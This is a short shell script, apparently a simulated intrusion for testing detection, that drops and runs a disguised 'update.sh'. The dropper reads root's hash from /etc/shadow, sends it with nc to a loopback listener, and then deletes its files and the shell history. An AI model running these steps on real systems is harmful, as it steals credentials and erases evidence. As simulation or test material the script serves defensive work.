#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A harmless break-in: a script is dropped, made executable and run; it takes
# a password hash and sends it out, over loopback; then tracks are covered.
nc -l -p 4444 > /tmp/.received &
sleep 0.3

cat > /tmp/update.sh <<'SCRIPT'
#!/bin/sh
grep root /etc/shadow > /tmp/.loot
nc 127.0.0.1 4444 < /tmp/.loot
SCRIPT
chmod +x /tmp/update.sh
/tmp/update.sh

rm -f /tmp/update.sh /tmp/.loot /tmp/.received /root/.ash_history
